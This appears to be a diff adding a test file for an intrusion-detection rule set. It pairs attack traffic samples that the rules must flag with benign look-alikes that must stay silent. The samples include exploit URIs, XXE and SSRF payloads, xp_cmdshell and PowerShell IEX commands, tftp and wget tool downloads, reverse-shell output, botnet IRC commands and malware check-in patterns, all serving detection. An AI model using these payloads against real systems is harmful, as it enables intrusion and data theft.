@@ -1,0 +1,94 @@
+import { describe, expect, it } from 'vitest'
+import { percentDecoded } from '../../decode/http-parts.ts'
+import { builtInRules } from './built-in-rules.ts'
+import type { RulePart } from './rule-part.ts'
+import { RuleSet } from './rule-set.ts'
+
+const rules = new RuleSet(builtInRules)
+
+function kinds(part: RulePart, text: string): string[] {
+  const raw = Buffer.from(text, 'latin1')
+  const bytes = part.startsWith('http') ? percentDecoded(raw) : raw
+  return rules.match(part, bytes, 0, bytes.length).map(({ rule }) => rule.kind)
+}
+
+/** As Windows writes text on the wire. */
+const wide = (text: string) => Buffer.from(text, 'utf16le').toString('latin1')
+const base64 = 'QUJD'.repeat(43)
+
+describe('rules for single products and families', () => {
+  it.each<[RulePart, string, string]>([
+    ['http.uri', '/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php', 'web_exploit'],
+    ['http.uri', '/index.php?%ADd+allow_url_include%3d1', 'web_exploit'],
+    ['http.uri', '/wls-wsat/CoordinatorPortType', 'web_exploit'],
+    ['http.uri', '/tmui/login.jsp/..;/tmui/locallb/workspace/fileRead.jsp', 'web_exploit'],
+    ['http.uri', '/autodiscover/autodiscover.json?@evil.example/owa/?&Email=a', 'web_exploit'],
+    ['http.header', 'Cookie: X-BEResource=localhost~1942062522', 'web_exploit'],
+    ['http.header', 'Range: bytes=0-18446744073709551615', 'web_exploit'],
+    ['http.header', `If: <http://localhost/${'a'.repeat(80)}>`, 'web_exploit'],
+    ['http.header', 'Accept-Encoding: doar-e, ftw, imo, ,', 'web_exploit'],
+    ['http.body', '<p:ExecuteShellCommand_INPUT><p:command>id</p:command>', 'web_exploit'],
+    ['http.body', '<NewInternalClient>`cd /tmp`</NewInternalClient>', 'device_exploit'],
+    ['http.body', '<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/hosts">]>', 'xml_external_entity'],
+    ['http.uri', '/hello?name={{7*7}}', 'template_injection'],
+    ['http.uri', '/fetch?url=http://169.254.169.254/latest/meta-data/', 'request_forgery'],
+    ['http.body', 'user=admin&password[$ne]=x', 'nosql_injection'],
+    ['payload', 'USER letmein:)\r\n', 'service_exploit'],
+    ['payload', 'site cpfr /etc/passwd\r\n', 'service_exploit'],
+    ['payload', '\xfcSMB\xff\xff\xff\xff\x00\x00\x00\x00', 'smb_exploit'],
+    ['payload', wide("EXEC master..xp_cmdshell 'whoami'"), 'remote_execution'],
+    ['payload', wide('cmd.exe /Q /c cd 1> \\\\127.0.0.1\\ADMIN$\\__16 2>&1'), 'remote_execution'],
+    ['payload', 'OPENX\x00\x00shell:cd /data/local/tmp; busybox wget', 'device_exploit'],
+    ['payload', 'tftp -i 10.0.0.5 GET msblast.exe\n', 'tool_download'],
+    ['payload', 'echo open 10.0.0.5 5554 > cmd.ftp\r\n', 'tool_download'],
+    ['payload', 'var s = unescape("%u9090%u9090%uc3c9");', 'browser_exploit'],
+    ['payload', '\x17\x00\x03\x2a\x00\x00\x00\x00', 'amplification_request'],
+    ['payload', 'bash: no job control in this shell\n', 'reverse_shell'],
+    ['payload', 'uid=33(www-data) gid=33(www-data) groups=33(www-data)', 'reverse_shell'],
+    ['payload', 'powershell.exe -nop -w hidden -c "IEX"', 'hidden_powershell'],
+    ['payload', 'root:x:0:0:root:/root:/bin/bash\ndaemon:x:1:1', 'file_disclosure'],
+    ['http.header', `Host: a\nCookie: ${base64.slice(0, 171)}=\n`, 'malware_check_in'],
+    ['http.uri', `/ono19/PC_W617601.${'A1'.repeat(16)}/5/spk/`, 'malware_check_in'],
+    ['http.uri', `/images/${'aB_2/'.repeat(24)}x.gif`, 'malware_check_in'],
+    ['http.header', 'Cookie: __gads=3565213230:1:16212:134; _gat=6.1', 'malware_check_in'],
+    ['http.body', 'GUID=11762013261093838848&BUILD=2606_jn', 'malware_check_in'],
+    ['dns.name', 'www.iuqerfsodp9ifjaposdfjhgosurijfaewrwergwea.com', 'malware_check_in'],
+    ['dns.name', 'abcdefghijklmnop.onion.to', 'malware_check_in'],
+    ['payload', 'Subject: PW_user/DESKTOP-1A2B3C\r\n', 'credential_theft'],
+    ['payload', 'STOR PW_user-DESKTOP_2024_01_02.html\r\n', 'credential_theft'],
+    ['payload', ':a!b@c PRIVMSG #x :.advscan lsass 100 5 0 -r -s\r\n', 'botnet_command'],
+    ['payload', ':irc.x 332 bot #x :.ddos.syn 10.0.0.1 80 60\r\n', 'botnet_command'],
+    ['payload', 'NICK [USA|XP|P|00|123456]\r\n', 'botnet_command'],
+    ['payload', '!* UDP 203.0.113.9 80 60\n', 'botnet_command'],
+    ['payload', 'OPTIONS sip:100@10.0.0.1\r\nUser-Agent: friendly-scanner\r\n', 'sip_scan'],
+  ])('find in %s: %s', (part, text, kind) => {
+    expect(kinds(part, text)).toContain(kind)
+  })
+
+  it.each<[RulePart, string]>([
+    ['http.uri', '/autodiscover/autodiscover.json?Email=a@b.example&Protocol=EWS'],
+    ['http.header', 'Accept-Encoding: gzip, deflate, br'],
+    ['http.header', 'Range: bytes=0-1023'],
+    ['http.header', 'If: <http://localhost/file.txt> (<opaquelocktoken:1>)'],
+    ['http.header', `Host: a\nCookie: session=${base64.slice(0, 171)}=\n`],
+    ['http.header', 'Cookie: __gads=ID=1a2b3c:T=1700000000:S=ALNI_Ma'],
+    ['http.body', '<!ENTITY copy "&#169;"> and <!DOCTYPE html SYSTEM "about:legacy-compat">'],
+    ['http.body', 'text=The price is {{price}} or ${price}; 7*7 is 49'],
+    ['http.uri', '/proxy?url=http://shop.example/a&x[$n]=1'],
+    ['http.uri', '/images/2024/01/holiday-in-a-long-folder-name-of-a-web-log/picture-1.gif'],
+    ['http.uri', '/show_w12345.html'],
+    ['http.body', 'guid=550e8400-e29b-41d4-a716-446655440000&name=x'],
+    ['payload', 'USER anna\r\nPASS :-)\r\n'],
+    ['payload', 'The powershell -Command switch runs a command in a new window'],
+    ['payload', 'unescape("%u00e4") gives a letter'],
+    ['payload', 'tftp -i is how Windows asks for a binary file'],
+    ['payload', 'echo open the door\n'],
+    ['payload', 'Subject: PWA meeting on Monday\r\n'],
+    ['payload', 'PRIVMSG #linux :how do I download a file? !help wget\r\n'],
+    ['payload', 'NICK anna_1984\r\n'],
+    ['payload', 'root:x:0: is the first group'],
+    ['dns.name', 'onion-soup.example'],
+  ])('stay silent in %s: %s', (part, text) => {
+    expect(kinds(part, text)).toEqual([])
+  })
+})
